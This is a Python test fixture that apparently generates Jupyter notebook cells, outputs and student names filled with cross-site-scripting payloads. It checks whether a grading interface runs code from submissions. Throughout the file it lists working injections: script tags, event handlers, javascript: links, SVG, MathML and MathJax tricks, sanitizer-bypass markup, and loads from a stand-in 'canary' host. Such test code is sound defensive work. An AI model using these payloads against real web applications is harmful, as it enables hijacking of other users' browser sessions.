"""Ways to act in the browser of whoever reads a submission: what to write, show and attach.

PWN stands for the script, CANARY for an address of the attacker's.
"""

import inspect
import json
from copy import deepcopy
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.hostile import messages

CANARY_HOST = "canary.example.com"
"""Where nobody answers: a page that asks it for anything has been made to."""

_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
_SCRIPT = "<script>PWN</script>"
_HANDLER = "<img src=x onerror=PWN>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='PWN'><script>PWN</script></svg>"
# <script>PWN</script>, in base64 when it has a number.
_PAGE = "data:text/html,<script>PWN</script>"

HTML = {
    "a script": _SCRIPT,
    "a script in capitals": "<ScRiPt>PWN</sCrIpT>",
    "a script in a script": "<scr<script>ipt>PWN</scr</script>ipt>",
    "a script from elsewhere": "<script src='CANARY.js'></script>",
    "a handler": _HANDLER,
    "a handler after a slash": "<img/src=x/onerror=PWN>",
    "a handler after a line": "<img\nsrc=x\nonerror=PWN>",
    "a handler in a tag that never ends": "<img src=x onerror=PWN//",
    "a handler after a quote": "<img title='\"' src=x onerror=PWN>",
    "a handler that runs when a tag opens": "<details open ontoggle=PWN>x</details>",
    "a handler that takes the focus": "<input autofocus onfocus=PWN>",
    "a handler of a video": "<video><source onerror=PWN></video>",
    "a handler of an animation": "<b style='animation-name:x' onanimationstart=PWN>x</b>",
    "a handler on a body": "<body onload=PWN onpageshow=PWN>",
    "a handler of a marquee": "<marquee onstart=PWN>x</marquee>",
    "SVG": _SVG,
    "SVG that animates a link": "<svg><a><animate attributeName=href values='javascript:PWN' />"
    "<text y=20>x</text></a></svg>",
    "an object in SVG": "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
    "MathML": "<math href='javascript:PWN'>x</math>",
    "markup that changes when it is read again": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=PWN&gt;'>",
    "markup that a form hides": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=PWN>",
    "markup that noscript hides": "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
    "markup that a text area hides": "<textarea><img title='</textarea><img src=x onerror=PWN>'>",
    "a comment that ends early": "<!--><img src=x onerror=PWN>-->",
    "CDATA": "<![CDATA[><img src=x onerror=PWN>]]>",
    "a processing instruction": "<?xml version='1.0'?><img src=x onerror=PWN>",
    "a frame": "<iframe src='javascript:PWN'></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
    "a frame from elsewhere": "<iframe src='CANARY'></iframe>",
    "an object": "<object data='javascript:PWN'></object><embed src='javascript:PWN'>",
    "a new page": "<meta http-equiv=refresh content='0;url=CANARY'>",
    "another base": "<base href='CANARY/'>",
    "a style sheet": "<link rel=stylesheet href='CANARY.css'><style>@import 'CANARY.css';</style>",
    "a style that asks elsewhere": "<p style='background:url(CANARY.png);"
    "cursor:url(CANARY.cur),auto'>x</p>"
    "<p style='border-image:url(CANARY.png);list-style:url(CANARY.png)'>x</p>",
    "a style that covers the page": "<div style='position:fixed;inset:0;z-index:9999;opacity:0'>"
    "<a href='https://example.org/'>x</a></div>",
    "a form": "<form action='javascript:PWN'><button>x</button></form>"
    "<button formaction='javascript:PWN'>x</button><isindex action='javascript:PWN' type=image>",
    "a picture from elsewhere": "<img src='CANARY.png' srcset='CANARY.png 2x'>"
    "<picture><source srcset='CANARY.png'><img src='CANARY.png'></picture>",
    "the ends of all tags": "</div></div></div></div></body></html>" + _HANDLER,
    "a name that scripts go by": "<p id=MathJax></p><a name=formgrader></a>"
    "<img name=submission_id>",
    "a class that scripts go by": "<p class='nbgrader_cell full-credit score tabbable'>x</p>",
    "data that scripts go by": "<a data-link='x' data-toggle='tooltip' data-html='true' "
    'title="<img src=x onerror=PWN>">x</a>',
    "a formula in a script": "<script type='math/tex'>x</script>"
    "<script type='text/x-mathjax-config'>PWN</script>",
    "a template": "<template shadowrootmode=open><img src=x onerror=PWN></template>",
    "a link that acts": "<a href='javascript:PWN'>x</a>",
    "a link with a tab in it": "<a href='java&#9;script:PWN'>x</a><a href='java\nscript:PWN'>x</a>",
    "a link after a control character": "<a href='&#1;javascript:PWN'>x</a>",
    "a link of entities": "<a href='&#106;&#97;vascript&colon;PWN'>x</a>",
    "a link to a page that is written out": f'<a href="{_PAGE}">x</a>',
    "a link to Basic": "<a href='vbscript:PWN'>x</a>",
    "a link to what is written in it": "<a xlink:href='javascript:PWN' href='jAvAsCrIpT:PWN'>x</a>",
    "a map": "<img usemap='#m' src=x><map name=m><area shape=default href='javascript:PWN'></map>",
    "a link that tells": "<a href='https://example.org/' ping='CANARY'>x</a>",
}
"""Written into a text, and shown as HTML."""

MARKDOWN = {
    "a link": "[x](javascript:PWN)",
    "a link in capitals": "[x](JaVaScRiPt:PWN)",
    "a link with escaped brackets": "[x](javascript:PWN%28%29)",
    "a link of entities": "[x](&#106;avascript:PWN)",
    "a link of entities of entities": "[x](&amp;#106;avascript:PWN) [x](javascript&amp;colon;PWN)",
    "a link in brackets": "[x](<javascript:PWN>)",
    "a link to Basic": "[x](vbscript:PWN)",
    "a link to a page in base64": "[x](data:text/html;base64,PHNjcmlwdD5QV048L3NjcmlwdD4=)",
    "a link that a filter shortens": "[x](files/javascript:PWN) [x](/files/javascript:PWN)",
    "a link to a file that is handed in": "[x](page.html) [x](./page.html) [x](http:page.html)",
    "a link to this server": "[x](/formgrader/manage_students/%22;PWN//) "
    "[x](http://localhost:8888/formgrader/manage_students/%22;PWN//)",
    "a link by reference": "[x][r]\n\n[r]: javascript:PWN",
    "a link by reference after a tab": "[x][r]\n\n[r]: \tjava\tscript:PWN",
    "a link that is its own text": "<javascript:PWN>",
    "a link with a title": '[x](https://example.org "\\" onmouseover=PWN x=\\"")',
    "a picture's source": "![x](javascript:PWN)",
    "a picture's source that ends": '![x](x" onerror="PWN)',
    "a picture's text": '![" onerror="PWN](x)',
    "a picture's text that is a tag": "![<img src=x onerror=PWN>](x)",
    "a picture's title": "![x](x '\" onerror=PWN x=\"')",
    "a picture from elsewhere": "![x](CANARY.png) ![x][r]\n\n[r]: CANARY.png",
    "a picture that is a page": f"![x]({_PAGE})",
    "a picture that is SVG": "![x](data:image/svg+xml;utf8,<svg onload=PWN>)",
    "an attachment that is missing": "![x](attachment:nothing.png)",
    "a table": "| a | b |\n|---|---|\n| <img src=x onerror=PWN> | [x](javascript:PWN) |",
    "a heading": "# <img src=x onerror=PWN>\n\n## MathJax\n\n## written_associativity",
    "a heading that ends an attribute": '# "><img src=x onerror=PWN>',
    "a formula": "$<img src=x onerror=PWN>$ $$<script>PWN</script>$$ $`<script>PWN</script>`$",
    "a formula with brackets": "\\\\(<script>PWN</script>\\\\) \\\\[<script>PWN</script>\\\\]",
    "a formula of several lines": "\\begin{align}\n<img src=x onerror=PWN>\n\\end{align}",
    "a formula that is a link": "$\\href{javascript:PWN}{x}$ $\\href{https://example.org}{y}$",
    "a formula with a style": "$\\style{background:url(CANARY.png)}{x}$ $\\class{score}{y}$ "
    "$\\cssId{MathJax}{z}$ $\\mmlToken{mi}[href='javascript:PWN']{x}$ $\\require{x}$",
    "code": "`<img src=x onerror=PWN>`\n\n    <script>PWN</script>",
    "code in a language": "```html\n<script>PWN</script>\n```",
    "code in a language that ends an attribute": '```"><img/src=x/onerror=PWN>\nx\n```',
    "a diagram": "```mermaid\n<img src=x onerror=PWN>\n```\n\n```mermaid\ngraph TD\n"
    'A["<img src=x onerror=PWN>"]\nclick A call PWN\n```',
    "a quotation": "> <img src=x onerror=PWN>\n>\n> [x](javascript:PWN)",
    "a list": "- <img src=x onerror=PWN>\n- [ ] [x](javascript:PWN)",
    "entities": "&lt;img src=x onerror=PWN&gt; &amp;lt;img src=x onerror=PWN&amp;gt;",
    "what was escaped": "\\<img src=x onerror=PWN>\\>",
    "a tag over two lines": "<img src=x\n\nonerror=PWN>",
    "a tag in a link": "[<img src=x onerror=PWN>](https://example.org)",
    "a block that ends": "<div>\n\n</div>\n\n<img src=x onerror=PWN>",
    "a definition": "<b>a\n: <img src=x onerror=PWN>",
    "a line that is no line": "<img src=x\ronerror=PWN>\x0b<img\x0csrc=x\x0conerror=PWN>",
    "a NUL": "<scr\0ipt>PWN</scr\0ipt><img src=x on\0error=PWN>",
}
"""Written into a text."""

ATTACHED = {
    "an attachment that is a page": {"a.png": {"text/html": "PHNjcmlwdD5QV048L3NjcmlwdD4="}},
    "an attachment that ends an attribute": {"a.png": {"image/png": '" onerror="PWN'}},
    "an attachment of a type that ends an attribute": {"a.png": {'x" onerror="PWN': "aaaa"}},
    "an attachment that is SVG": {"a.png": {"image/svg+xml": "<svg onload='PWN'/>"}},
    "an attachment that is nothing": {"a.png": {}},
}
"""Attached to a text, which shows it."""

SHOWN: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "a width": ({"image/png": _PNG}, {"image/png": {"width": "1 onload=PWN x="}}),
    "a height": ({"image/jpeg": "x"}, {"height": "1 onerror=PWN x="}),
    "a width of all": ({"image/png": "x"}, {"width": "1 onerror=PWN x="}),
    "a text for a picture": ({"image/png": "x"}, {"alt": '" onerror="PWN'}),
    "a file for a picture": (
        {"image/png": "x"},
        {"filenames": {"image/png": "CANARY.png"}},
    ),
    "a picture that ends an attribute": ({"image/png": '" onerror="PWN'}, {}),
    "a frame": ({"text/html": _SCRIPT}, {"text/html": {"isolated": True}}),
    "JavaScript": ({"application/javascript": "PWN", "text/plain": "x"}, {}),
    "SVG": ({"image/svg+xml": _SVG}, {}),
    "a widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>PWN</script>"}},
        {},
    ),
    "a diagram": ({"text/vnd.mermaid": "</pre><img src=x onerror=PWN>"}, {}),
    "LaTeX": ({"text/latex": "</div><script>PWN</script>$\\href{javascript:PWN}{x}$"}, {}),
    "text": ({"text/plain": "</pre><script>PWN</script>"}, {}),
    "text in colours": ({"text/plain": "\x1b[31m<img src=x onerror=PWN>\x1b[0m\x1b[38m"}, {}),
    "a type that is none": ({"text/html; x": _SCRIPT, "application/pdf": "x", "*/*": _SCRIPT}, {}),
    "JSON": ({"application/json": {"x": _SCRIPT}}, {}),
    "a table schema": ({"application/vnd.dataresource+json": {"x": _SCRIPT}}, {}),
}
"""Data and metadata of what a cell shows."""

_TRACEBACK = [f"\x1b[31m{_HANDLER}\x1b[0m", _SCRIPT, "\x1b[38m", "\x1b[48;5m x"]


def _outputs() -> dict[str, NotebookNode]:
    shown = {}
    for name, html in HTML.items():
        for kind in ("text/html", "text/markdown"):
            shown[f"{name}, as {kind}"] = new_output("display_data", {kind: html})
    for name, text in MARKDOWN.items():
        shown[f"{name}, as text/markdown"] = new_output("display_data", {"text/markdown": text})
    for name, (data, metadata) in SHOWN.items():
        shown[name] = new_output("display_data", data, metadata=metadata)
    for name in ("stdout", "stderr"):
        shown[name] = new_output("stream", name=name, text=f"</pre>{_SCRIPT}\x1b[38m")
    shown["an error"] = new_output("error", ename=_SCRIPT, evalue="x", traceback=_TRACEBACK)
    return {f"shown: {name}": output for name, output in shown.items()}


def _cells() -> dict[str, NotebookNode]:
    cells = {name: new_markdown_cell(text) for name, text in (HTML | MARKDOWN).items()}
    cells |= {f"{name}, in a line": new_markdown_cell(f"x {text} x") for name, text in HTML.items()}
    for name, attached in ATTACHED.items():
        cells[name] = new_markdown_cell("![x](attachment:a.png)", attachments=attached)
    raw_html = {"raw_mimetype": "text/html"}
    cells["a raw cell"] = new_raw_cell(_HANDLER)
    cells["a raw cell of HTML"] = new_raw_cell(_HANDLER, metadata=raw_html)
    cells["a tag"] = new_code_cell("", metadata={"tags": [f'x">{_HANDLER}', "x nbgrader_cell"]})
    for magic in ("html", "javascript", "svg"):
        cells[f"a cell of {magic}"] = new_code_cell(f"%%{magic}\n{_SCRIPT}")
    cells |= {name: new_code_cell("1", outputs=[output]) for name, output in _outputs().items()}
    return cells


def _numbered(cell: NotebookNode, number: int) -> NotebookNode:
    """The cell, whose script calls pwn(number)."""
    canary = f"https://{CANARY_HOST}/{number}"
    text = json.dumps(cell).replace("PWN", f"pwn({number})").replace("CANARY", canary)
    return from_dict(json.loads(text))


CELLS = {name: _numbered(cell, number) for number, (name, cell) in enumerate(_cells().items())}
"""Cells by the name of what they try. The script of each calls pwn with its place among them."""

NAMES = ("<img src=x onerror=pwn(0)>", 'x" onmouseover="pwn(0)', 'x";pwn(0);x="', "x\\")
"""Students' names."""


def code_that_shows() -> list[str]:
    """Code cells that show what the cells above have as outputs, each of them a hundred."""
    outputs = [output for cell in CELLS.values() for output in cell.get("outputs", [])]
    calls = [
        f"send({output.pop('output_type')!r}, {dict(output)!r})" for output in deepcopy(outputs)
    ]
    send = f"import json\n\n{inspect.getsource(messages.send)}"
    return ["\n".join([send, *calls[start : start + 100]]) for start in range(0, len(calls), 100)]
